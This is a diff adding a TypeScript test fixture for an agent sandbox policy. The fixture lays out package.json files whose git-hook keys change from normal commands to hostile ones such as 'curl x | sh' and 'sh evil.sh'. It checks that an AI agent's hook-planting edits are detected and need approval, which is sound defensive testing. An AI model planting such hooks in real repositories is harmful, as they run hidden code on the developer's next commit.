@@ -1,0 +1,124 @@
+import { mkdirSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { realGit } from './real-git.ts'
+
+/**
+ * package.json files whose keys say what runs at the person's next
+ * `git commit` (src/runtime/policy/package-hooks.ts), each in a folder of
+ * its own under a repository, with a change to its hook part as a whole
+ * new text: a door that knows the new text (Assent's write tool, the
+ * built-in file server) compares it, any other asks for a package.json
+ * that carries such a key at all.
+ */
+export const CARRYING_HOOKS: ReadonlyArray<{
+  row: string
+  folder: string
+  before: Record<string, unknown>
+  after: Record<string, unknown>
+}> = [
+  {
+    row: "husky v4's hooks",
+    folder: 'husky4',
+    before: { name: 'a', husky: { hooks: { 'pre-commit': 'npm test' } } },
+    after: { name: 'a', husky: { hooks: { 'pre-commit': 'curl x | sh' } } },
+  },
+  {
+    row: "simple-git-hooks' hooks",
+    folder: 'simple',
+    before: { name: 'b', 'simple-git-hooks': { 'pre-commit': 'npx lint-staged' } },
+    after: { name: 'b', 'simple-git-hooks': { 'pre-commit': 'sh evil.sh' } },
+  },
+  {
+    row: "lint-staged's commands",
+    folder: 'staged',
+    before: { name: 'c', 'lint-staged': { '*.js': 'eslint --fix' } },
+    after: { name: 'c', 'lint-staged': { '*': 'sh evil.sh' } },
+  },
+  {
+    row: 'a script the pre-commit package runs, by its name',
+    folder: 'precommit',
+    before: { name: 'd', 'pre-commit': ['lint'], scripts: { lint: 'eslint .' } },
+    after: { name: 'd', 'pre-commit': ['lint'], scripts: { lint: 'sh evil.sh' } },
+  },
+  {
+    row: "ghooks' hooks under config",
+    folder: 'ghooks',
+    before: { name: 'e', config: { ghooks: { 'pre-commit': 'npm test' } } },
+    after: { name: 'e', config: { ghooks: { 'pre-commit': 'sh evil.sh' } } },
+  },
+  {
+    row: "yorkie's gitHooks",
+    folder: 'yorkie',
+    before: { name: 'f', gitHooks: { 'pre-commit': 'lint-staged' } },
+    after: { name: 'f', gitHooks: { 'pre-commit': 'sh evil.sh' } },
+  },
+]
+
+/** package.json files that carry no such key, and a change that adds one:
+ *  a door that knows the new text asks; a command that makes the change
+ *  in the sandbox has the file moved aside once it ends. */
+export const ADDING_HOOKS: ReadonlyArray<{
+  row: string
+  folder: string
+  before: Record<string, unknown>
+  after: Record<string, unknown>
+}> = [
+  {
+    row: 'simple-git-hooks added',
+    folder: 'adds-simple',
+    before: { name: 'g', dependencies: { a: '1' } },
+    after: { name: 'g', dependencies: { a: '1' }, 'simple-git-hooks': { 'pre-commit': 'sh x' } },
+  },
+  {
+    row: 'husky v4 added',
+    folder: 'adds-husky',
+    before: { name: 'h' },
+    after: { name: 'h', husky: { hooks: { 'pre-push': 'sh x' } } },
+  },
+]
+
+/** Changes a grant may answer: a dependency added beside hook keys, a
+ *  script no hook names changed, and any change of a package.json that
+ *  carries no hook key and gains none. */
+export const AGENTS_CHANGES: ReadonlyArray<{
+  row: string
+  folder: string
+  before: Record<string, unknown>
+  after: Record<string, unknown>
+}> = [
+  {
+    row: 'a dependency beside lint-staged',
+    folder: 'dep-beside',
+    before: { name: 'i', 'lint-staged': { '*.js': 'eslint' }, dependencies: {} },
+    after: { name: 'i', 'lint-staged': { '*.js': 'eslint' }, dependencies: { left: '1' } },
+  },
+  {
+    row: 'a script no hook names',
+    folder: 'other-script',
+    before: { name: 'j', 'pre-commit': ['lint'], scripts: { lint: 'eslint .', build: 'tsc' } },
+    after: { name: 'j', 'pre-commit': ['lint'], scripts: { lint: 'eslint .', build: 'vite' } },
+  },
+]
+
+/** A package.json carrying no hook key, whose every change is the agent's. */
+export const PLAIN_PACKAGE = {
+  row: 'a package.json with no hook key',
+  folder: 'plain',
+  before: { name: 'k', scripts: { test: 'vitest' } },
+  after: { name: 'k', scripts: { test: 'vitest run' } },
+}
+
+/** The text a package.json is written with. */
+export const packageText = (value: Record<string, unknown>): string =>
+  `${JSON.stringify(value, null, 2)}\n`
+
+/** Makes `workspace` a repository holding each row's package.json as it
+ *  is before its change. */
+export function layPackages(ceiling: string, workspace: string): void {
+  realGit(ceiling, workspace, 'init', '-q')
+  const rows = [...CARRYING_HOOKS, ...ADDING_HOOKS, ...AGENTS_CHANGES, PLAIN_PACKAGE]
+  for (const { folder, before } of rows) {
+    mkdirSync(join(workspace, folder), { recursive: true })
+    writeFileSync(join(workspace, folder, 'package.json'), packageText(before))
+  }
+}
